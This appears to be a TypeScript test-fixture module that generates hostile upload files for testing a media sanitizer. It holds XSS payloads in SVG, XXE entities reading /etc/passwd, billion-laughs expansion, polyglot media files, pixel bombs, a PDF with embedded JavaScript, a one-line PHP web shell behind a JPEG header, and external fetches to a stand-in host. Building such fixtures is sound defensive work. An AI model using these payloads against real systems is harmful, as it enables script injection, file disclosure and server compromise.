import { sampleJpeg, samplePng } from './build-nft.ts'
import { type HostileFile, hostilePayloads } from './hostile-payloads.ts'
import { declaredSizes, endlessFilm } from './hostile-sizes.ts'
import { sampleGlb, sampleMp3, sampleMp4, sampleOgg, sampleSvg, sampleWav, sampleWebm } from './sample-media.ts'

const OUTSIDE = 'https://evil.test'
const svg = (inside: string, attributes = '') =>
  `<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" viewBox="0 0 10 10" width="50" height="50" ${attributes}>${inside}<rect width="9" height="9"/></svg>`

const HANDLERS = [
  'onload',
  'onerror',
  'onclick',
  'onbegin',
  'onend',
  'onfocus',
  'onmouseover',
  'onactivate',
  'ONLOAD',
  'oNlOaD',
  'onpointerenter',
  'onanimationstart',
  'onunload',
  'onresize',
]
const URLS = [
  'javascript:alert(1)',
  'JaVaScRiPt:alert(1)',
  'java\tscript:alert(1)',
  '&#106;avascript:alert(1)',
  'data:text/html,<script>alert(1)</script>',
  'data:image/svg+xml;base64,PHN2Zy8+',
  `${OUTSIDE}/x`,
  '//evil.test/x',
  'vbscript:msgbox(1)',
  'blob:null/1',
  'file:///etc/passwd',
]

const INSIDES: string[] = [
  '<script>alert(1)</script>',
  '<script href="https://evil.test/a.js"/>',
  '<script xlink:href="data:text/javascript,alert(1)"/>',
  '<SCRIPT>alert(1)</SCRIPT>',
  '<scr<script>ipt>alert(1)</script>',
  '<script><![CDATA[alert(1)]]></script>',
  '<x:script xmlns:x="http://www.w3.org/2000/svg">alert(1)</x:script>',
  '<html:script xmlns:html="http://www.w3.org/1999/xhtml">alert(1)</html:script>',
  '<style>@import url(https://evil.test/a.css);</style>',
  '<style>*{background:url(https://evil.test/a)}</style>',
  '<style><img src=x onerror=alert(1)></style>',
  '<foreignObject><body xmlns="http://www.w3.org/1999/xhtml"><script>alert(1)</script></body></foreignObject>',
  '<foreignObject><iframe src="javascript:alert(1)"/></foreignObject>',
  '<iframe src="https://evil.test"/>',
  '<embed src="https://evil.test"/>',
  '<object data="https://evil.test"/>',
  '<video src="https://evil.test/v" onerror="alert(1)"/>',
  '<audio src="https://evil.test/a" autoplay=""/>',
  '<link rel="stylesheet" href="https://evil.test/a.css"/>',
  '<meta http-equiv="refresh" content="0;url=https://evil.test"/>',
  '<base href="https://evil.test/"/>',
  '<form action="https://evil.test"><input type="submit"/></form>',
  '<use href="https://evil.test/a.svg#x"/>',
  '<use href="data:image/svg+xml,&lt;svg id=%22x%22 onload=%22alert(1)%22/&gt;#x"/>',
  '<image href="https://evil.test/a.png"/>',
  '<image xlink:href="https://evil.test/a.png"/>',
  '<feImage href="https://evil.test/a.png"/>',
  '<filter id="f"><feImage xlink:href="https://evil.test/a.png"/></filter>',
  '<animate attributeName="href" values="javascript:alert(1)"/>',
  '<set attributeName="onload" to="alert(1)"/>',
  '<animateTransform onbegin="alert(1)" attributeName="x"/>',
  '<a href="javascript:alert(1)"><text>x</text></a>',
  '<a xlink:href="https://evil.test"><text>x</text></a>',
  '<rect fill="url(https://evil.test/p#x)"/>',
  '<rect filter="url( \'https://evil.test/f\' )"/>',
  '<rect style="fill:url(https://evil.test/p)"/>',
  '<rect mask="url(//evil.test/m)" clip-path="url(\\68ttps://evil.test)"/>',
  '<rect cursor="url(https://evil.test/c),auto"/>',
  '<text><tspan onclick="alert(1)">x</tspan></text>',
  '<svg onload="alert(1)"><svg onload="alert(2)"/></svg>',
  '<math><mtext><script>alert(1)</script></mtext></math>',
  '<title><script>alert(1)</script></title>',
  '<desc><![CDATA[</desc><script>alert(1)</script>]]></desc>',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>',
  '<mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;"></style></mglyph>',
  '<handler xmlns="http://www.w3.org/2001/xml-events" event="load">alert(1)</handler>',
  '<metadata><x onload="alert(1)"/></metadata>',
  '<text>&lt;script&gt;alert(1)&lt;/script&gt;</text>',
  '<text><![CDATA[<script>alert(2)</script>]]></text>',
  '<filter id="f"><feGaussianBlur stdDeviation="2"/><feImage href="https://evil.test/a"/></filter><rect filter="url(#f)" width="9" height="9"/>',
  '<linearGradient id="g" href="https://evil.test/a.svg#g"><stop offset="0"/></linearGradient><rect fill="url(#g)" width="8" height="8"/>',
  '<clipPath id="c" onclick="alert(1)"><circle r="4"/></clipPath><rect clip-path="url(#c)" width="9" height="9"/>',
  '<mask id="m"><image href="https://evil.test/a.png"/><circle r="4"/></mask><rect mask="url(#m)" width="9" height="9"/>',
  '<pattern id="p" width="2" height="2"><image href="https://evil.test/a.png"/><path d="M0 0h1v1z"/></pattern><rect fill="url(#p)"/>',
  '<marker id="k" onload="alert(1)"><path d="M0 0h1v1z"/></marker><path d="M0 0h9v9z" marker-end="url(#k)"/>',
  '<textPath href="https://evil.test/a.svg#p">x</textPath>',
  '<switch><g requiredExtensions="https://evil.test/"><script>alert(1)</script></g></switch>',
  '<?xml-stylesheet href="https://evil.test/a.xsl" type="text/xsl"?>',
  '<xsl:script xmlns:xsl="http://www.w3.org/1999/XSL/Transform">alert(1)</xsl:script>',
  `${'<g>'.repeat(5_000)}${'</g>'.repeat(5_000)}`,
]

const PROLOGS: string[] = [
  '<!DOCTYPE svg [<!ENTITY x SYSTEM "file:///etc/passwd">]>',
  '<!DOCTYPE svg [<!ENTITY a "aaaaaaaaaa"><!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;"><!ENTITY c "&b;&b;&b;&b;&b;&b;&b;&b;">]>',
  '<!DOCTYPE svg PUBLIC "x" "https://evil.test/x.dtd">',
  '<?xml version="1.0"?><?xml-stylesheet type="text/xsl" href="https://evil.test/a.xsl"?>',
  '<!-- --!><script>alert(1)</script> -->',
  '\uFEFF<!--a--><!DOCTYPE svg>',
]

function drawings(): HostileFile[] {
  const texts = [
    ...HANDLERS.map((name) => [`an SVG with ${name}`, svg('', `${name}="alert(1)"`)]),
    ...HANDLERS.slice(0, 6).map((name) => [
      `an SVG with ${name} inside`,
      svg(`<rect ${name}="alert(1)" width="1" height="1"/>`),
    ]),
    ...URLS.flatMap((url) => [
      [`an SVG linking to ${url}`, svg(`<a href="${url}"><rect width="3" height="3"/></a>`)],
      [`an SVG using ${url}`, svg(`<use xlink:href="${url}"/>`)],
    ]),
    ...INSIDES.map((inside) => [`an SVG with ${inside.slice(0, 50)}`, svg(inside)]),
    ...PROLOGS.map((prolog) => [`an SVG after ${prolog.slice(0, 50)}`, prolog + svg('<text>&x;&c;</text>')]),
  ]
  return texts.map(([what = '', text = '']) => ({ what, bytes: Buffer.from(text) }))
}

const PAGE = Buffer.from(
  '<!doctype html><html><body><script>alert(1)</script><img src="https://evil.test/x"></body></html>',
)

async function polyglots(): Promise<HostileFile[]> {
  const good: [string, Buffer][] = [
    ['png', await samplePng()],
    ['jpeg', await sampleJpeg()],
    ['mp4', sampleMp4()],
    ['webm', sampleWebm()],
    ['mp3', sampleMp3()],
    ['wav', sampleWav()],
    ['ogg', sampleOgg()],
    ['glb', sampleGlb()],
    ['svg', sampleSvg()],
  ]
  return good.flatMap(([kind, bytes]) => [
    { what: `a ${kind} with a page behind it`, bytes: Buffer.concat([bytes, PAGE]) },
    { what: `a page with a ${kind} behind it`, bytes: Buffer.concat([PAGE, bytes]) },
    { what: `the first 20 bytes of a ${kind} and a page`, bytes: Buffer.concat([bytes.subarray(0, 20), PAGE]) },
    { what: `half a ${kind}`, bytes: bytes.subarray(0, bytes.length >> 1) },
    { what: `a ${kind} turned round`, bytes: Buffer.from(bytes).reverse() },
    { what: `a ${kind} after 512 zeros`, bytes: Buffer.concat([Buffer.alloc(512), bytes]) },
  ])
}

const bomb = (width: number, height: number): Buffer => {
  const png = Buffer.from('89504e470d0a1a0a0000000d4948445200000000000000000806000000', 'hex')
  png.writeUInt32BE(width, 16)
  png.writeUInt32BE(height, 20)
  return Buffer.concat([png, Buffer.alloc(200)])
}

const others: HostileFile[] = [
  { what: 'a page', bytes: PAGE },
  { what: 'a script', bytes: Buffer.from('alert(document.domain)') },
  { what: 'a GIF that is a script', bytes: Buffer.from('GIF89a=1;alert(1)') },
  { what: 'a BMP that is a script', bytes: Buffer.from('BM=1;alert(1)') },
  { what: 'a pixel bomb', bytes: bomb(65_535, 65_535) },
  { what: 'a thin pixel bomb', bytes: bomb(2 ** 31 - 1, 1) },
  { what: 'a PDF', bytes: Buffer.from('%PDF-1.7\n1 0 obj<</OpenAction<</S/JavaScript/JS(app.alert(1))>>>>endobj') },
  { what: 'a zip', bytes: Buffer.from('504b0304140000000000', 'hex') },
  { what: 'an ELF', bytes: Buffer.from('7f454c46020101000000000000000000', 'hex') },
  { what: 'a PHP page behind a JPEG head', bytes: Buffer.from('\xff\xd8\xff\xe0<?php system($_GET[0]); ?>', 'latin1') },
  { what: 'Windows text', bytes: Buffer.from('\ufeff<svg>', 'utf16le') },
  { what: 'a playlist', bytes: Buffer.from(`#EXTM3U\n#EXT-X-TARGETDURATION:1\n${OUTSIDE}/a.ts\n`) },
  {
    what: 'an mp4 with a box of size 1',
    bytes: Buffer.from(
      '0000001866747970697 36f6d0000020069736f6d6d7034310000000 16d6f6f760000000000000000'.replaceAll(' ', ''),
      'hex',
    ),
  },
  {
    what: 'a model whose buffer is a local file',
    bytes: sampleGlb({ asset: { version: '2.0' }, buffers: [{ byteLength: 1, uri: 'file:///etc/passwd' }] }),
  },
  {
    what: 'a model with a page for a picture',
    bytes: sampleGlb({ asset: { version: '2.0' }, images: [{ uri: 'data:text/html,<script>alert(1)</script>' }] }),
  },
  {
    what: 'a model of a million accessors',
    bytes: sampleGlb({ asset: { version: '2.0' }, accessors: Array.from({ length: 100_000 }, () => ({})) }),
  },
  { what: 'a model with a prototype', bytes: sampleGlb('{"asset":{"version":"2.0"},"__proto__":{"x":1}}') },
]

/** At least 150 files. */
export const hostileFiles = async (): Promise<HostileFile[]> => [
  ...drawings(),
  ...(await polyglots()),
  ...others,
  ...(await hostilePayloads()),
  ...declaredSizes.map(([what, make]) => ({ what, bytes: make() })),
  { what: 'an MP4 of samples without end', bytes: endlessFilm() },
]
